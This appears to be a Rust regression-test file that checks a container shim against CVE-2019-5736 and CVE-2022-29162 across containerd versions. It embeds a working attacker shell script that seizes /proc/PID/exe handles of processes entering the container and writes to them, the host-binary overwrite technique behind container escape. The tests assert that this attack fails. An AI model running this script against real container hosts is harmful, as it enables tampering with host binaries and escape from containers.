//! Regression tests for published container-runtime CVEs, through containerd 1.6, 1.7 and 2.x.
//!
//! The processes that enter a container here are execs (`ctr task exec`) and the inits of
//! further containers joining its pid namespace.

use std::fs;
use std::path::PathBuf;

use mini_e2e::{Containerd, Version, runtime_under_test};
use sha2::{Digest, Sha256};

mini_e2e::on_every_version!(
    cve_2019_5736_entering_processes_cannot_rewrite_the_host_binary,
    cve_2019_5736_execs_cannot_rewrite_the_host_binary,
    cve_2022_29162_inheritable_and_ambient_capabilities_are_empty,
);

/// The shim binary the daemons run (the one under test).
fn shim_binary() -> PathBuf {
    mini_e2e::mini_bin_dir().join("containerd-shim-mini-v2")
}

fn sha256(path: &PathBuf) -> String {
    let bytes = fs::read(path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    Sha256::digest(bytes)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

/// The attacker: for every process of its pid namespace that does not run the container's own
/// busybox, it records that it saw it and tries to get a handle on its `/proc/PID/exe`; with
/// one that is not its container's busybox (the process may have exec'd meanwhile), it
/// waits until the process has exec'd and appends to the file through the handle (how runc's
/// CVE-2019-5736 overwrote the host's runc).
const ATTACK: &str = r#"
seen=" "
while :; do
  for d in /proc/[0-9]*; do
    p=${d#/proc/}
    case "$seen" in *" $p "*) continue;; esac
    l=$(readlink $d/exe 2>/dev/null)
    if [ "$l" = /bin/busybox ]; then seen="$seen$p "; continue; fi
    read -r stat < $d/stat 2>/dev/null || continue
    echo "$p ${l:-unreadable} $stat" | cut -d' ' -f1-5 >> /tmp/seen
    ( exec 7< $d/exe || exit
      # Too late: the process has exec'd its container's own busybox.
      h=$(readlink /proc/self/fd/7)
      [ "$h" = /bin/busybox ] && exit
      echo "$p $l handle=$h $(tr '\0' ' ' < $d/cmdline)" >> /tmp/held
      sleep 0.3
      echo PWNED >> /proc/self/fd/7 && echo "$p $l" >> /tmp/hits ) 2>/dev/null &
  done
done
"#;

/// Runs the attacker in a container, lets `enter` make processes enter it (given the
/// attacker's pid and container id; it returns ids of containers it left to check), then
/// checks that no entering process exposed a writable handle and the shim binary is
/// unchanged.
fn race_entering_processes(
    ns: &mini_e2e::Namespace<'_>,
    enter: impl FnOnce(i32, &str) -> Vec<String>,
) {
    let shim = shim_binary();
    let before = sha256(&shim);
    let attacker = ns.new_id("attacker");
    ns.run_detached(&runtime_under_test(), &[], &attacker, &["sh", "-c", ATTACK]);
    let (pid, _) = ns.task(&attacker).expect("attacker task listed");
    let entering = enter(pid, &attacker);
    // The attacker's files, read from the host through its root.
    let read = |name: &str| fs::read_to_string(format!("/proc/{pid}/root/tmp/{name}"));
    let seen = read("seen").unwrap_or_default();
    let held = read("held").unwrap_or_default();
    let hits = read("hits").unwrap_or_default();
    ns.kill_and_delete(&attacker);
    eprintln!("processes the attacker saw entering (pid, exe):\n{seen}\nheld:\n{held}");
    // (Checked once the attacker is gone: its rootfs mount is under the daemon's directory.)
    for id in entering.iter().chain([&attacker]) {
        ns.assert_nothing_left(id);
    }
    assert_eq!(hits, "", "wrote to the binary of an entering process");
    assert_eq!(held, "", "a handle on /proc/PID/exe of an entering process");
    assert_eq!(sha256(&shim), before, "{} was modified", shim.display());
    // The race is real: the attacker saw processes that entered its pid namespace.
    assert!(
        !seen.is_empty(),
        "the attacker never saw an entering process"
    );
}

fn cve_2019_5736_entering_processes_cannot_rewrite_the_host_binary(version: Version) {
    let cd = Containerd::start(version);
    let ns = cd.busybox_namespace("cve5736");
    race_entering_processes(&ns, |pid, _| {
        let with = format!("pid:/proc/{pid}/ns/pid");
        let mut entering = Vec::new();
        for _ in 0..20 {
            let id = ns.new_id("entering");
            entering.push(id.clone());
            ns.run(
                &runtime_under_test(),
                &["--rm", "--with-ns", &with],
                &id,
                &["sleep", "0.1"],
            )
            .expect_success();
        }
        entering
    });
}

/// 100 execs into the attacker's container, four at a time.
fn cve_2019_5736_execs_cannot_rewrite_the_host_binary(version: Version) {
    let cd = Containerd::start(version);
    let ns = cd.busybox_namespace("cve5736x");
    race_entering_processes(&ns, |_, attacker| {
        std::thread::scope(|s| {
            for t in 0..4 {
                let ns = &ns;
                s.spawn(move || {
                    for i in 0..25 {
                        let exec_id = format!("enter-{t}-{i}");
                        ns.ctr(&["task", "exec", "--exec-id", &exec_id, attacker, "true"])
                            .expect_success();
                    }
                });
            }
        });
        Vec::new()
    });
}

/// `CapInh` and `CapAmb` of `/proc/self/status`.
fn inheritable_and_ambient(status: &str) -> (String, String) {
    let field = |name: &str| {
        status
            .lines()
            .find_map(|l| l.strip_prefix(name))
            .map(|v| v.trim().to_string())
            .unwrap_or_else(|| panic!("no {name} in {status}"))
    };
    (field("CapInh:"), field("CapAmb:"))
}

fn cve_2022_29162_inheritable_and_ambient_capabilities_are_empty(version: Version) {
    let cd = Containerd::start(version);
    let ns = cd.busybox_namespace("cve29162");
    // A non-root user through the image's config (ctr 1.6 has no --user).
    let dir = tempfile::tempdir().unwrap();
    let tar = dir.path().join("user.tar");
    mini_e2e::build_image(&tar, "user", &[], serde_json::json!({"User": "1000:1000"}));
    ns.ctr(&[
        "images",
        "import",
        "--base-name",
        "localhost/busybox-user",
        &tar.to_string_lossy(),
    ])
    .expect_success();
    for (image, uid) in [
        (mini_e2e::IMAGE, "0"),
        ("localhost/busybox-user:user", "1000"),
    ] {
        let id = ns.new_id("caps");
        let out = ns.ctr(&[
            "run",
            "--rm",
            "--runtime",
            &runtime_under_test(),
            image,
            &id,
            "sh",
            "-c",
            "cat /proc/self/status; echo uid=$(id -u)",
        ]);
        out.expect_success();
        assert!(out.stdout.contains(&format!("uid={uid}\n")), "{out}");
        let (inh, amb) = inheritable_and_ambient(&out.stdout);
        assert_eq!(inh, "0000000000000000", "CapInh of uid {uid}: {out}");
        assert_eq!(amb, "0000000000000000", "CapAmb of uid {uid}: {out}");
        ns.assert_nothing_left(&id);
    }
}
